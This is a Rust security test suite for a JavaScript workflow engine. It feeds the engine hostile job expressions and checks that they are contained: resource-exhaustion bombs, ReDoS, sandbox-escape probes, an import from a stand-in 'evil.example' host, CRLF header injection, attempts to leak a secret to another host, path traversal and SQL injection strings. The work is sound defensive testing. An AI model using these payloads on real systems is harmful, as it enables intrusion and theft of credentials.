//! Expressions that attack the engine they run in, and the doors around it, beside a neighbour.
//! docs/security/torture.md lists every behaviour and its test.

use std::io::Write;
use std::net::TcpStream;

use fonio_tests::{Attack, FarSide, Host, Program, Project, SECRET, Step, TIGHT, wait_for};
use serde_json::{Value, json};

const CPU: &str = "the limit `cpu_time` is 300ms";

#[track_caller]
fn job(expression: &str) -> Step {
    Attack::by_job("common", expression).survived()
}

/// It is stopped by a limit, whichever it meets first, or the engine says no.
#[track_caller]
fn comes_to_an_end(expression: &str) -> Step {
    let step = job(expression);
    let named = step.message().contains("the limit `");
    let by_engine = step.exit_code == 1 && !step.message().is_empty();
    assert!((step.exit_code == 3 && named) || by_engine, "{step:?}");
    step
}

#[test]
fn strings_that_double_without_end_are_stopped() {
    comes_to_an_end(
        "fn(() => { let s = 'xx'; while (true) { s += s; s.charCodeAt(s.length - 1); } })",
    );
}

#[test]
fn a_text_repeated_to_half_a_gigabyte_is_refused() {
    comes_to_an_end("fn(() => 'x'.repeat(2 ** 29).length)");
}

#[test]
fn a_typed_array_of_four_gigabytes_is_refused() {
    comes_to_an_end("fn(() => new Uint8Array(2 ** 32).fill(1))");
}

#[test]
fn a_sparse_array_of_every_index_is_stopped() {
    comes_to_an_end("fn(() => new Array(2 ** 32 - 1).fill(0))");
}

#[test]
fn an_object_of_fields_without_end_is_stopped() {
    comes_to_an_end("fn(() => { const o = {}; for (let n = 0; ; n++) o['k' + n] = n; })");
}

#[test]
fn a_generator_without_end_that_is_spread_is_stopped() {
    comes_to_an_end("fn(() => [...(function* () { while (true) yield 'x'.repeat(1000); })()])");
}

#[test]
fn an_order_that_makes_no_sense_is_survived() {
    let step = job(
        "fn(() => ({ n: Array.from({ length: 1000 }, (_, n) => n).sort(() => Math.random() - 0.5).length }))",
    );
    assert_eq!(step.output["n"], 1000, "{}", step.error);
}

#[test]
fn jobs_that_make_jobs_in_the_queue_of_promises_are_stopped() {
    job("fn(() => { const again = () => Promise.resolve().then(again); return again(); })")
        .expect_failure(3, "the limit `");
}

#[test]
fn a_million_timers_at_once_come_to_an_end() {
    comes_to_an_end(
        "fn(() => new Promise(() => { for (let n = 0; n < 1e6; n++) setTimeout(() => {}, 1e9); }))",
    );
}

#[test]
fn a_timer_that_sets_itself_again_without_end_is_stopped() {
    let expression =
        "fn(() => new Promise(() => { const again = () => setTimeout(again, 0); again(); }))";
    // Of the two limits that of the wall comes first: it hardly computes.
    let settings = TIGHT.replace("wall_time = \"30s\"", "wall_time = \"2s\"");
    let step = Attack::by_job("common", expression)
        .settings(&settings)
        .survived();
    step.expect_failure(3, "the limit `");
}

#[test]
fn json_nested_a_hundred_thousand_times_is_survived() {
    comes_to_an_end("fn(() => JSON.parse('['.repeat(1e5) + ']'.repeat(1e5)))");
}

#[test]
fn an_expression_of_twenty_thousand_operations_is_survived() {
    let step = job(&"fn(state => state);\n".repeat(20_000));
    assert!(matches!(step.exit_code, 0 | 3 | 10), "{step:?}");
}

#[test]
fn errors_that_each_cause_the_next_are_cut() {
    let step = comes_to_an_end(
        "fn(() => { let e = new Error('first'); for (let n = 0; n < 1e5; n++) e = new Error('next', { cause: e }); throw e; })",
    );
    assert!(step.error.to_string().len() < 100_000);
}

#[test]
fn half_a_character_is_kept_as_the_mark_of_one() {
    let step = job("fn(() => ({ half: '\\ud83d', whole: '\\ud83d\\ude00' }))");
    assert_eq!(step.output["whole"], "\u{1f600}", "{}", step.error);
    let thrown = job("fn(() => { console.log('\\udc00'); throw new Error('\\ud83d!'); })");
    thrown.expect_failure(1, "!");
}

#[test]
fn getters_and_proxies_that_never_end_are_stopped_while_the_state_is_kept() {
    job("fn(() => ({ get a() { while (true); } }))").expect_failure(3, CPU);
    job("fn(() => ({ toJSON() { while (true); } }))").expect_failure(3, CPU);
    job("fn(() => new Proxy({}, { ownKeys() { while (true); } }))").expect_failure(3, CPU);
    job("fn(() => { throw { toString() { while (true); }, get message() { while (true); } }; })")
        .expect_failure(3, CPU);
}

#[test]
fn what_makes_code_of_text_reaches_no_more_than_the_job() {
    let step = job(
        "fn(() => ({ seen: [typeof process, typeof require, typeof Deno, typeof std, typeof os, typeof WebAssembly, (() => { try { return (0, eval)('typeof globalThis.process') } catch (e) { return 'undefined' } })()] }))",
    );
    assert_eq!(step.exit_code, 0, "{}", step.error);
    let seen = step.output["seen"].to_string();
    assert!(
        !seen.contains("object") && !seen.contains("function"),
        "{seen}"
    );
}

#[test]
fn a_wait_that_would_stop_the_thread_is_none() {
    comes_to_an_end("fn(() => Atomics.wait(new Int32Array(new SharedArrayBuffer(8)), 0, 0))");
}

#[test]
fn a_module_from_anywhere_is_not_to_be_had() {
    for from in [
        "node:fs",
        "/etc/passwd",
        "file:///etc/passwd",
        "https://evil.example/x.js",
        "data:text/javascript,1",
    ] {
        let step = job(&format!(
            "fn(async () => ({{ got: Object.keys(await import('{from}')) }}))"
        ));
        assert_ne!(step.exit_code, 0, "{from}: {step:?}");
    }
}

#[test]
fn a_regular_expression_of_endless_backtracking_in_replace_is_stopped() {
    job("fn(() => 'a'.repeat(40).replace(/(a|aa)+$b/g, ''))").expect_failure(3, CPU);
}

#[test]
fn numbers_of_millions_of_digits_are_stopped() {
    comes_to_an_end("fn(() => String((7n ** 5_000_000n) ** 7n).length)");
}

#[test]
fn the_http_adaptor_takes_no_header_that_would_begin_another() {
    for header in [
        "'x': 'a\\r\\nevil: 1'",
        "'x\\r\\nevil': '1'",
        "'x': 'a\\u0000b'",
    ] {
        let far_side = FarSide::saying(json!({}));
        let expression = format!(
            "get('{}', {{ headers: {{ {header} }} }})",
            far_side.url("/x")
        );
        let step = Attack::by_job("http", &expression)
            .settings(&(far_side.granted() + TIGHT))
            .survived();
        step.expect_failure(1, "");
        assert_eq!(far_side.connections(), 0, "{header} arrived");
    }
}

#[test]
fn a_placeholder_of_one_step_opens_nothing_in_another() {
    let far_side = FarSide::saying(json!({}));
    let expression = "fn(state => ({ ...state, token: state.data.argument ?? state.configuration.hush }));\n\
                      get('/x', { headers: { 'x-token': $.token } });\n\
                      fn(state => ({ kept: state.token.split('') }));";
    let host = Attack::by_job("http", expression)
        .credential(&json!({ "baseUrl": far_side.origin(), "hush": SECRET }))
        .served();
    let step = host.survives(&Value::Null);
    assert_eq!(step.exit_code, 0, "{}", step.error);
    assert_eq!(
        far_side.only().header("x-token"),
        Some(SECRET),
        "its own it may use"
    );
    let letters = step.output["kept"].as_array().expect("a list");
    let kept: String = letters.iter().filter_map(Value::as_str).collect();
    assert!(!kept.contains("9f3c"), "{kept}");
    let later = host.survives(&json!(kept));
    later.expect_failure(3, "was refused");
    assert_eq!(far_side.received().len(), 1, "the second never arrived");
}

#[test]
fn a_secret_goes_to_no_other_host_than_its_own() {
    let (own, other) = (FarSide::saying(json!({})), FarSide::saying(json!({})));
    for expression in [
        format!(
            "get('{}', {{ headers: {{ 'x-token': $.configuration.hush }} }})",
            other.url("/x")
        ),
        format!(
            "fn(state => http.get('{}/' + encodeURIComponent(state.configuration.hush))(state))",
            other.origin()
        ),
        format!("post('{}', {{ body: $.configuration }})", other.url("/x")),
        format!(
            "get('{}', {{ query: {{ q: $.configuration.hush }} }})",
            other.url("/x")
        ),
    ] {
        Attack::by_job("http", &expression)
            .credential(&json!({ "baseUrl": own.origin(), "hush": SECRET }))
            .settings(&(other.granted() + TIGHT))
            .survived();
    }
    let told: Vec<u8> = other
        .received()
        .iter()
        .flat_map(|one| format!("{one:?}").into_bytes())
        .collect();
    for form in fonio_tests::sinks::forms(SECRET) {
        assert!(
            !fonio_tests::sinks::holds(&told, form.as_bytes()),
            "it left as {form}"
        );
    }
}

#[test]
fn a_client_that_hangs_up_while_its_run_computes_disturbs_nobody() {
    // Each client waits for the end of its run.
    let host = Attack::by_job("common", "fn(() => { while (true); })")
        .env("ENDPOINT_STYLE", "sync")
        .settings("[limits]\ncpu_time = \"300ms\"\nwall_time = \"20s\"\n")
        .served();
    let body = json!({"to": "bad"}).to_string();
    let head = "POST /inbox HTTP/1.1\r\nhost: h\r\ncontent-type: application/json\r\n";
    let clients = [0; 4].map(|_| {
        let mut stream = TcpStream::connect(host.address()).expect("the host listens");
        write!(stream, "{head}content-length: {}\r\n\r\n{body}", body.len()).expect("it reads");
        stream
    });
    wait_for("all to have come", || {
        (host.runs().len() == 4).then_some(())
    });
    drop(clients);
    for run in host.runs_done() {
        run.step().expect_failure(3, CPU);
    }
}

#[test]
fn keys_of_collections_are_names_and_no_paths() {
    let yaml = "id: clinic\nname: clinic\nschema_version: '4.0'\ncollections: [facilities]\nworkflows:\n  - id: keep\n    name: keep\n    start: hook\n    steps:\n      \
                - { id: hook, type: webhook, enabled: true, next: job }\n      - { id: job, adaptor: common, expression: ./job.js }\n";
    let expression = "fn(state => ({ ...state, key: state.data.key }));
\
                      fn(state => collections.set('facilities', state.key, state.data.value)(state));
\
                      collections.get('facilities', $.key);";
    let host = Host::serving(
        Project::new()
            .file("project.yaml", yaml)
            .file("job.js", expression),
    );
    for key in [
        "../../etc/passwd",
        "/etc/passwd",
        "C:\\x",
        "a/../b",
        "nul\u{0}l",
        "%2e%2e%2f",
        "é",
        "e\u{301}",
        "'; DROP TABLE runs; --",
        "%",
    ] {
        let body = json!({"key": key, "value": {"of": key}}).to_string();
        host.send(
            "POST",
            "/i/keep",
            &[("content-type", "application/json")],
            body.as_bytes(),
        );
        let run = host.runs_done().pop().expect("it started a run");
        assert_eq!(run.state["data"]["of"], key, "{run:#?}");
    }
    assert_eq!(host.get("/health").status, 200);
}

#[test]
fn files_around_a_project_are_in_no_page_and_no_answer() {
    let host = Attack::by_job("common", "fn(state => state)").served();
    for path in [
        "/../credentials/theirs.json",
        "/%2e%2e/credentials/theirs.json",
        "/credentials/theirs.json",
        "/.fonio/",
        "/api/v1/../../credentials/theirs.json",
        "/api/v1/dataclips/..%2f..%2f1",
        "/api/v1/dataclips/-1",
        "/api/v1/dataclips/99999999999999999999",
        "/api/v1/runs/1%00",
        "/api/v1/runs/0x1",
        "/api/v1/runs/1 OR 1=1",
        "//etc/passwd",
    ] {
        let reply = host.get(&path.replace(' ', "%20"));
        assert!(
            matches!(reply.status, 400 | 404),
            "{path}: {}",
            reply.status
        );
        assert!(!reply.text().contains("9f3c"), "{path}");
    }
}

#[test]
fn a_name_of_a_job_or_an_adaptor_is_no_way_out_of_the_project() {
    for yaml in [
        "jobs:\n  ../../x: { adaptor: '@openfn/language-common', trigger: any }\ntriggers:\n  any: { criteria: '{}' }\n",
        "jobs:\n  x: { adaptor: '../../../etc/x', trigger: any, expression: 'fn(s => s)' }\ntriggers:\n  any: { criteria: '{}' }\n",
        "jobs:\n  x: { adaptor: '@openfn/language-common', trigger: any, expression: '../../../../../../etc/passwd' }\ntriggers:\n  any: { criteria: '{}' }\n",
        "jobs:\n  x: { adaptor: '@openfn/language-common', trigger: any, credential: '../../../../etc/passwd', expression: 'fn(s => s)' }\ntriggers:\n  any: { criteria: '{}' }\n",
    ] {
        let project = Project::new().file("project.yaml", yaml);
        let ended = Program::new(["check", "."]).run(project.dir());
        assert_ne!(ended.code, None, "it ends by itself");
        let said = ended.stdout + &ended.stderr;
        assert!(!said.contains("root:"), "{said}");
        assert_ne!(ended.code, Some(0), "{said}");
    }
}
